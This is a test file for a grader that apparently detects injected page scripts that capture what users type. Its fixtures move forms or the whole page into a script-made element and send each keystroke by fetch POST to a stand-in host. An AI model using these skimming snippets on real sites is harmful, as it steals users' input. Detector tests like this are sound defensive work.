import { expect, test } from 'vitest';
import { graded } from '../testing/graded.ts';

const SEND = "fetch('https://c.example/x', { method: 'POST', body: e.target.value })";

/** Elements of the script's own that parts of the page are moved into hear what is typed there. */
test.each([
  [
    'a form in a box',
    `const box = document.createElement('div'); const form = document.querySelector('form'); form.replaceWith(box); box.append(form); box.addEventListener('input', (e) => ${SEND});`,
  ],
  [
    'the whole page',
    `const box = document.createElement('div'); while (document.body.firstChild) box.append(document.body.firstChild); document.body.append(box); box.addEventListener('keydown', (e) => ${SEND});`,
  ],
  [
    'by a helper',
    `const on = (el, type, f) => el.addEventListener(type, f); const box = document.createElement('div'); document.querySelectorAll('form').forEach((one) => box.appendChild(one)); on(box, 'input', (e) => ${SEND});`,
  ],
  [
    'by a property',
    `const box = document.createElement('section'); box.prepend(document.forms[0]); box.oninput = (e) => ${SEND};`,
  ],
])('is heard: %s', async (_, content) => {
  expect(await graded({ content })).toBe('F');
});

test.each([
  [
    'its own field in its own box',
    `const box = document.createElement('div'); const field = document.createElement('input'); box.append(field); document.body.append(box); box.addEventListener('input', (e) => ${SEND});`,
  ],
  [
    'a field of a tool that stands in a table, listened at by a helper of it',
    `(function (app) { app.El = { make: function (tag, id) { var el = document.createElement(tag); el.id = id; return el; }, listen: function (el, type, f) { el.addEventListener(type, f, false); } }; app.Bar = { show: function () { this.color = app.El.make('input', 'color'); app.El.listen(this.color, 'change', function (e) { ${SEND}; }); } }; app.Bar.show(); })(window.app);`,
  ],
])('is not the page’s: %s', async (_, content) => {
  expect(await graded({ content })).toMatch(/^A/);
});
